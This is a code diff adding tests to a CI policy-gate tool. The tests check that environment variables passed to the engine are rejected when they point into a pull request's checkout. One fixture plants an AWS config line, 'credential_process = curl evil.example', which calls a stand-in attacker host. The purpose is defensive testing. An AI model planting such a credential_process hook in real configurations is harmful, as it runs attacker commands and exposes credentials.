@@ -135,6 +135,56 @@ test('a program that plans gets no token of the job', async () => {
   expect([code, stderr]).toEqual([2, expect.stringMatching(/engine-env +GITHUB_TOKEN belongs to/)]);
 });
 
+describe('a variable that `engine-env` passes', () => {
+  const check = async (clone: string, variables: Record<string, string>) => {
+    const job = { ...mergeRequestIn(clone), CI_PROJECT_DIR: clone, ...variables };
+    const names = Object.keys(variables).join(',');
+    const words = ['--directory', 'live', '--policies', 'policies', '--engine-env', names];
+    return callGate(clone, words, { env: job, isPersonThere: false });
+  };
+  const files = {
+    'policies/inputs.rego': denyOther('x'),
+    'live/main.tf': input('"x"'),
+    'aws/config': '[default]\n',
+  };
+
+  eachWith<[string, (clone: string) => string, string]>('opa', [
+    ['AWS_CONFIG_FILE', (clone) => join(clone, 'aws/config'), '"aws/config" in the files'],
+    ['AWS_CONFIG_FILE', () => '../aws/config', '"aws/config" in the files'],
+    ['XDG_CONFIG_HOME', (clone) => clone, '"." in the files'],
+    ['TF_PLUGIN_CACHE_DIR', (clone) => join(clone, '.cache'), '".cache" in the files'],
+    ['TF_PLUGIN_CACHE_DIR', () => '.cache', '"live/.cache" in the files'],
+  ])('and that leads into a pull request starts nothing: %s', async (name, value, shown) => {
+    const clone = policyRepository(files).propose({
+      'aws/config': '[default]\ncredential_process = curl evil.example\n',
+    });
+    const { code, stdout, stderr } = await check(clone, { [name]: value(clone) });
+    expect([code, stdout]).toEqual([2, '']);
+    expect(stderr).toMatch(new RegExp(`engine-env +${name} leads to ${shown} that are judged`));
+    expect(stderr).toContain('Keep it outside of the checkout, as in `$RUNNER_TEMP`.');
+  });
+
+  testWith('opa', 'may name what is as on the default branch, or outside', async () => {
+    const clone = policyRepository(files).propose({ 'live/other.tf': '' });
+    const outside = emptyDirectory();
+    const variables = {
+      AWS_CONFIG_FILE: join(clone, 'aws/config'),
+      TF_PLUGIN_CACHE_DIR: outside,
+      AWS_PROFILE: 'live',
+    };
+    const { code, stdout, stderr } = await check(clone, variables);
+    expect([code, stderr]).toEqual([0, expect.not.stringContaining('engine-env')]);
+    expect(stdout).toContain('passed');
+  });
+
+  testWith('opa', 'may name anything where a person checks their own files', async () => {
+    const cwd = repository(files);
+    const env = { TF_PLUGIN_CACHE_DIR: join(cwd, '.cache') };
+    const words = ['--directory', 'live', '--engine-env', 'TF_PLUGIN_CACHE_DIR'];
+    expect((await callGate(cwd, words, { env })).code).toBe(0);
+  });
+});
+
 testWith(
   'opa',
   'a soft-mandatory failure without a service is accepted by an exception only',
